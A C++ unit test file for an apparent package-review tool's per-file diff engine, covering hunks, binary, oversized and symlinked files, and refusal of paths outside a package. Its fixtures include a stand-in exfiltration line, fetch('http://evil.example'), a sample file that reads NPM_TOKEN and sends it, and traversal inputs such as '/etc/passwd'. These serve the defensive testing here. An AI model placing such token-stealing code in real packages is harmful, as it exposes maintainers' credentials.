// One file's line diff between two package versions: what a reviewer reads on the diff page and
// in `vigil-cli diff --file` — the changed lines with their numbers, added and removed files as
// all-'+' / all-'-', and binary, oversized and symlinked files named instead of diffed.
#include "engine/resolve/content_diff.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <fstream>

using namespace vigil::engine;
using namespace vigil::engine::resolve;
namespace fs = std::filesystem;

namespace {

std::vector<DiffLine> changedLines(const ContentDiff& d) {
    std::vector<DiffLine> out;
    for (const auto& h : d.hunks)
        for (const auto& l : h.lines)
            if (l.origin != ' ')
                out.push_back(l);
    return out;
}

class PackageTrees : public ::testing::Test {
protected:
    void SetUp() override {
        const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
        base_ = fs::temp_directory_path() / ("vigil-content-diff-" + std::string(info->name()) + "-" + std::to_string(::getpid()));
        fs::remove_all(base_);
        fs::create_directories(older());
        fs::create_directories(newer());
    }
    void TearDown() override { fs::remove_all(base_); }
    fs::path older() const { return base_ / "older"; }
    fs::path newer() const { return base_ / "newer"; }
    static void write(const fs::path& file, const std::string& content) {
        fs::create_directories(file.parent_path());
        std::ofstream(file, std::ios::binary) << content;
    }
    fs::path base_;
};

}  // namespace

TEST(ContentDiff, ChangedLinesCarryTheirLineNumbersAndContext) {
    const std::string before = "a\nb\nc\nd\ne\nf\ng\nh\n";
    const std::string after = "a\nb\nc\nD\ne\nf\ng\nh\nfetch('http://evil.example')\n";
    auto d = diffContents(before, after, "index.js");
    ASSERT_TRUE(d.ok()) << d.error().describe();
    EXPECT_EQ(d->kind, ContentDiffKind::Text);
    EXPECT_EQ(d->added, 2);
    EXPECT_EQ(d->removed, 1);
    const auto lines = changedLines(*d);
    ASSERT_EQ(lines.size(), 3u);
    EXPECT_EQ(lines[0], (DiffLine{'-', 4, 0, "d", false}));
    EXPECT_EQ(lines[1], (DiffLine{'+', 0, 4, "D", false}));
    EXPECT_EQ(lines[2], (DiffLine{'+', 0, 9, "fetch('http://evil.example')", false}));
    // Three lines of context: "a" (line 1) is shown before the change at 4, nothing before it.
    ASSERT_FALSE(d->hunks.empty());
    EXPECT_EQ(d->hunks.front().lines.front().text, "a");
    EXPECT_EQ(d->hunks.front().header.rfind("@@ -1,", 0), 0u) << d->hunks.front().header;
    EXPECT_NE(d->unified().find("\n+fetch('http://evil.example')\n"), std::string::npos) << d->unified();
    EXPECT_EQ(d->unified().rfind("--- a/index.js\n+++ b/index.js\n@@ ", 0), 0u) << d->unified();
}

TEST(ContentDiff, FarApartChangesAreSeparateHunksWithTheChosenContext) {
    std::string before, after;
    for (int i = 1; i <= 40; ++i) {
        before += "line " + std::to_string(i) + "\n";
        after += (i == 5 || i == 35 ? "changed " : "line ") + std::to_string(i) + "\n";
    }
    auto d = diffContents(before, after, "x.js", true, true, {kMaxContentDiffBytes, 1});
    ASSERT_TRUE(d.ok());
    ASSERT_EQ(d->hunks.size(), 2u);
    EXPECT_EQ(d->hunks[0].lines.size(), 4u);  // one context line, -, +, one context line
    EXPECT_EQ(d->hunks[1].oldStart, 34);
}

TEST(ContentDiff, EqualContentsHaveNoHunks) {
    auto d = diffContents("same\n", "same\n", "a.js");
    ASSERT_TRUE(d.ok());
    EXPECT_EQ(d->kind, ContentDiffKind::Text);
    EXPECT_TRUE(d->hunks.empty());
    EXPECT_EQ(d->added + d->removed, 0);
}

TEST(ContentDiff, AMissingFinalNewlineIsMarked) {
    auto d = diffContents("x\n", "x\ny", "a.js");
    ASSERT_TRUE(d.ok());
    const auto lines = changedLines(*d);
    ASSERT_EQ(lines.size(), 1u);
    EXPECT_TRUE(lines[0].noNewlineAtEnd);
    EXPECT_NE(d->unified().find("+y\n\\ No newline at end of file\n"), std::string::npos) << d->unified();
}

TEST(ContentDiff, BinaryAndOversizedFilesGetANoteInsteadOfLines) {
    const std::string png("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
    auto binary = diffContents(png, png + "x", "logo.png");
    ASSERT_TRUE(binary.ok());
    EXPECT_EQ(binary->kind, ContentDiffKind::Binary);
    EXPECT_TRUE(binary->hunks.empty());
    EXPECT_EQ(binary->note, "binary file (16 B → 17 B)");
    EXPECT_NE(binary->unified().find("binary file"), std::string::npos);

    const std::string big(2u << 20, 'x');
    auto large = diffContents("small\n", big, "dist/bundle.min.js");
    ASSERT_TRUE(large.ok());
    EXPECT_EQ(large->kind, ContentDiffKind::TooLarge);
    EXPECT_TRUE(large->hunks.empty());
    EXPECT_EQ(large->note, "too large for a line diff (6 B → 2.0 MiB; the limit is 1.0 MiB)");
}

TEST_F(PackageTrees, AnAddedFileIsAllAddedLines) {
    write(newer() / "lib/steal.js", "const t = process.env.NPM_TOKEN;\nsend(t);\n");
    auto d = diffPackageFile(older(), newer(), "lib/steal.js");
    ASSERT_TRUE(d.ok()) << d.error().describe();
    EXPECT_FALSE(d->inOlder);
    EXPECT_TRUE(d->inNewer);
    EXPECT_EQ(d->added, 2);
    EXPECT_EQ(d->removed, 0);
    EXPECT_EQ(d->unified().rfind("--- /dev/null\n+++ b/lib/steal.js\n", 0), 0u) << d->unified();
}

TEST_F(PackageTrees, ARemovedFileIsAllRemovedLines) {
    write(older() / "README.md", "# hi\n");
    auto d = diffPackageFile(older(), newer(), "README.md");
    ASSERT_TRUE(d.ok());
    EXPECT_FALSE(d->inNewer);
    EXPECT_EQ(d->removed, 1);
    EXPECT_EQ(changedLines(*d).at(0), (DiffLine{'-', 1, 0, "# hi", false}));
}

TEST_F(PackageTrees, ALargeFileIsNotReadAndSaysWhy) {
    write(older() / "big.js", "x\n");
    {
        std::ofstream out(newer() / "big.js", std::ios::binary);
        out << std::string(kMaxContentDiffBytes + 1, 'y');
    }
    auto d = diffPackageFile(older(), newer(), "big.js");
    ASSERT_TRUE(d.ok());
    EXPECT_EQ(d->kind, ContentDiffKind::TooLarge);
    EXPECT_EQ(d->newerBytes, kMaxContentDiffBytes + 1);
}

TEST_F(PackageTrees, ASymlinkIsComparedByItsTargetNeverFollowed) {
    write(base_ / "secret", "outside the package\n");
    write(older() / "link", "was a file\n");
    fs::create_symlink(base_ / "secret", newer() / "link");
    auto d = diffPackageFile(older(), newer(), "link");
    ASSERT_TRUE(d.ok()) << d.error().describe();
    EXPECT_EQ(d->kind, ContentDiffKind::Symlink);
    EXPECT_EQ(d->note, "regular file, 11 B → symlink to " + (base_ / "secret").string());
    EXPECT_EQ(d->unified().find("outside the package"), std::string::npos);
}

TEST_F(PackageTrees, PathsOutsideThePackageAreRefused) {
    write(base_ / "secret", "outside\n");
    for (const std::string bad : {"../secret", "/etc/passwd", "", "lib/../../secret"}) {
        auto d = diffPackageFile(older(), newer(), bad);
        ASSERT_FALSE(d.ok()) << bad;
        EXPECT_EQ(d.error().code, ErrorCode::Usage) << bad;
        EXPECT_NE(d.error().primary.find("not a path inside a package"), std::string::npos) << d.error().primary;
    }
    auto missing = diffPackageFile(older(), newer(), "nope.js");
    ASSERT_FALSE(missing.ok());
    EXPECT_EQ(missing.error().code, ErrorCode::NotFound);
    EXPECT_EQ(missing.error().primary, "nope.js is in neither version of the package");
}
